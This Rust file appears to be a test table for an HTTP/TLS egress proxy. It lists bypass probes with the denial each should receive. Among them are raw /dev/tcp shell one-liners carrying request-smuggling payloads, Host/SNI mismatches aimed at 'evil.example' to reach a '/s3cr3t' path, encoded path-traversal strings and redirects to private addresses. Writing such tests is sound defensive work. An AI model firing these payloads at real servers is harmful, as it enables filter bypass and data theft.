//! Rows about TLS and HTTP: one request that two could read in two ways, and servers that help. Played by [`super::network`].

use super::Row;

pub const ROWS: &[Row] = &[
    Row::new(
        "Host and SNI that differ",
        "req --http1.1 -H 'Host: evil.example' https://good.example/s3cr3t",
        &["421", "x-bb-deny: name_mismatch"],
    )
    .twin("req --http1.1 -H 'Host: good.example' https://good.example/hello | fine 'welcome /hello'")
    .covers(&[23]),
    Row::new(
        "Host and SNI of two listed hosts",
        "req --http1.1 -H 'Host: other.example' https://good.example/s3cr3t",
        &["x-bb-deny: name_mismatch"],
    )
    .covers(&[23]),
    Row::new(
        ":authority and SNI that differ",
        "req --http2 -H 'Host: evil.example' https://good.example/s3cr3t",
        &["421", "x-bb-deny: name_mismatch"],
    )
    .twin("req --http2 https://good.example/hello | fine 'welcome /hello'")
    .covers(&[26]),
    Row::new(
        "the SNI off the list, Host on it",
        "req --http1.1 -H 'Host: good.example' https://evil.example/s3cr3t",
        &["x-bb-deny: name_mismatch"],
    )
    .covers(&[23]),
    Row::new(
        "an address in the request line that is not the Host",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET http://evil.example/s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3",
        &["x-bb-deny: name_mismatch"],
    )
    .covers(&[24]),
    Row::new(
        "two Hosts",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3",
        &["HTTP/1.1 4"],
    )
    .comes("400 or 421")
    .covers(&[24, 27]),
    Row::new(
        "a second request on a good connection, to another host",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET /first HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET /s3cr3t HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3",
        &["welcome /first", "x-bb-deny: ip_literal"],
    )
    .covers(&[25, 27]),
    Row::new(
        "a smuggled request: length and chunks",
        "exec 3<>/dev/tcp/good.example/80; printf 'POST /x HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 44\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 1 cat <&3; true",
        &["HTTP/1.1 400"],
    )
    .denied("protocol_unknown", "")
    .covers(&[27]),
    Row::new(
        "a smuggled request: two lengths",
        "exec 3<>/dev/tcp/good.example/80; printf 'POST /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 1\\r\\nContent-Length: 1\\r\\n\\r\\nx' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
        &["HTTP/1.1 400"],
    )
    .covers(&[27]),
    Row::new(
        "a smuggled request: a bare line feed",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\nX: y\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
        &["HTTP/1.1 400"],
    )
    .covers(&[27]),
    Row::new(
        "a smuggled request: a folded header",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nX: y\\r\\n Host: evil.example\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
        &["HTTP/1.1 400"],
    )
    .covers(&[27]),
    Row::new(
        "HTTP/2 without TLS, known beforehand",
        "exec 3<>/dev/tcp/good.example/80; printf 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
        &["HTTP/1.1 400"],
    )
    .covers(&[26]),
    Row::new(
        "CONNECT through the plane",
        "req -p -x http://good.example:80 https://evil.example/s3cr3t",
        &["x-bb-deny: method"],
    )
    .covers(&[11]),
    Row::new("the plane as a proxy", "req -x http://good.example:80 http://evil.example/s3cr3t", &["x-bb-deny: "])
    .comes("refused (`name_mismatch`)")
    .covers(&[19, 24]),
    Row::new("TRACE", "req -X TRACE https://good.example/", &["x-bb-deny: method"])
    .covers(&[30]),
    Row::new("neither TLS nor HTTP on 443", "try tcp good.example 443 s3cr3t", &["connected", "ECONNRESET"])
        .denied("protocol_unknown", ""),
    Row::new(
        "a WebSocket",
        "req --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' https://good.example/",
        &["426", "x-bb-deny: upgrade"],
    )
    .covers(&[28]),
    Row::new("a path off the list", "req https://paths.example/s3cr3t", &["x-bb-deny: path"])
        .denied("path", "paths.example")
        .twin("req https://paths.example/ok/there | fine 'welcome /ok/there'")
    .covers(&[31]),
    Row::new("a path that climbs", "req --path-as-is https://paths.example/ok/../s3cr3t", &["x-bb-deny: path"])
    .covers(&[31]),
    Row::new(
        "a path that climbs in other letters",
        "req --path-as-is https://paths.example/ok/%2e%2e/s3cr3t",
        &["x-bb-deny: path"],
    )
    .covers(&[31]),
    Row::new("a path beside the prefix", "req https://paths.example/oks3cr3t", &["x-bb-deny: path"])
    .covers(&[31]),
    Row::new("a method off the list", "req -d s3cr3t https://paths.example/ok", &["x-bb-deny: method"])
        .denied("method", "paths.example")
    .covers(&[31]),
    Row::new("a name that lies in several records of a greeting", "try pieces evil.example 443 evil.example /s3cr3t; try pieces good.example 443 evil.example /s3cr3t", &[
        "x-bb-deny: route_missing",
        "x-bb-deny: ip_literal",
    ])
    .twin("try pieces good.example 443 good.example /hello | fine 'welcome /hello'")
    .covers(&[23]),
    Row::new("a name that is hidden (Encrypted Client Hello)", "try ech pinned.example 443 pinned.example", &["closed"])
        .denied("name_mismatch", "pinned.example")
        .twin("req -k https://pinned.example/hello | fine 'welcome /hello'")
        .covers(&[23]),
    Row::new(
        "a second request on a good TLS connection, to another host",
        "curl -sS -m 8 -i --http2 https://good.example/first --next -sS -m 8 -i --http2 -H 'Host: other.example' https://good.example/s3cr3t 2>&1",
        &["welcome /first", "x-bb-deny: name_mismatch"],
    )
    .covers(&[25, 26]),
    Row::new("an upgrade to HTTP/2 without TLS", "req --http2 http://good.example/h2c", &["HTTP/1.1 200", "welcome /h2c"])
        .each(&[("101 ", 0)])
        .comes("the answer, over HTTP/1.1")
        .covers(&[26]),
    Row::new(
        "a smuggled request: chunks with more than a size, longer than their size, too large to be one",
        r"for c in '5;x=y\r\nhello\r\n0\r\n\r\n' '2\r\nhello\r\n0\r\n\r\n' 'ffffffffffffffff\r\nx' '0x2\r\nhe\r\n0\r\n\r\n'; do try raw good.example 80 'POST /s3cr3t HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n'$c; done",
        &[],
    )
    .each(&[("welcome", 0)])
    .comes("400, or the connection ends")
    .denied("protocol_unknown", "")
    .covers(&[27]),
    Row::new(
        "a smuggled request: other codings, a length that is none, lengths in trailers",
        r#"for h in 'Transfer-Encoding: xchunked' 'Transfer-Encoding: chunked, identity' 'Transfer-Encoding : chunked' 'Content-Length: +5' 'Content-Length: 5, 5' 'Content-Length: 99999999999999999999'; do try raw good.example 80 'POST /s3cr3t HTTP/1.1\r\nHost: good.example\r\n'"$h"'\r\n\r\nhello'; done"#,
        &[],
    )
    .each(&[("HTTP/1.1 400", 6)])
    .covers(&[27]),
    Row::new(
        "a WebSocket where a route names its methods, and one that is asked for by POST",
        "ws() { req --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: c2VjcmV0c2VjcmV0c2VjcmU=' \"$@\"; }; ws https://paths.example/ok/s3cr3t; ws -X POST https://good.example/s3cr3t; ws -d s3cr3t https://good.example/",
        &[],
    )
    .each(&[("HTTP/1.1 426", 3), ("x-bb-deny: upgrade", 3)])
    .covers(&[28]),
    Row::new("an answer that leads to a host off the list, with its body", "req -L https://good.example/away; req -L -d carried-on https://good.example/away-with-body", &[])
        .each(&[("x-bb-deny: route_missing", 2)])
        .denied("route_missing", "evil.example")
        .covers(&[29]),
    Row::new("an answer that leads to a private address", "req -L https://good.example/inside", &["x-bb-deny: ip_literal"])
        .covers(&[29]),
    Row::new(
        "a path that climbs, in every other spelling",
        "for p in /ok//s3cr3t /ok/%2Fs3cr3t /ok%2f..%2fs3cr3t '/ok/;x=y/../s3cr3t' /ok/%252e%252e/s3cr3t '/ok/..;/s3cr3t' '/ok\\s3cr3t' /ok/./s3cr3t; do req --path-as-is https://paths.example$p; done",
        &[],
    )
    .each(&[("x-bb-deny: path", 8)])
    .covers(&[31]),
    Row::new("a method in a header", "req -H 'X-HTTP-Method-Override: DELETE' -H 'X-Method-Override: DELETE' https://paths.example/ok/headers", &["welcome"])
        .each(&[("DELETE", 0), ("override", 0)])
        .comes("the answer to the method of the request line; the headers are not sent on")
        .covers(&[31]),
    Row::new("a server with another's certificate", "req https://liar.example/s3cr3t", &["x-bb-deny: upstream_tls"])
        .denied("upstream_tls", "liar.example")
        .covers(&[34]),
    Row::new("a server whose certificate nobody knows has signed", "req https://stranger.example/s3cr3t", &["x-bb-deny: upstream_tls"])
        .denied("upstream_tls", "stranger.example")
        .covers(&[34]),
];
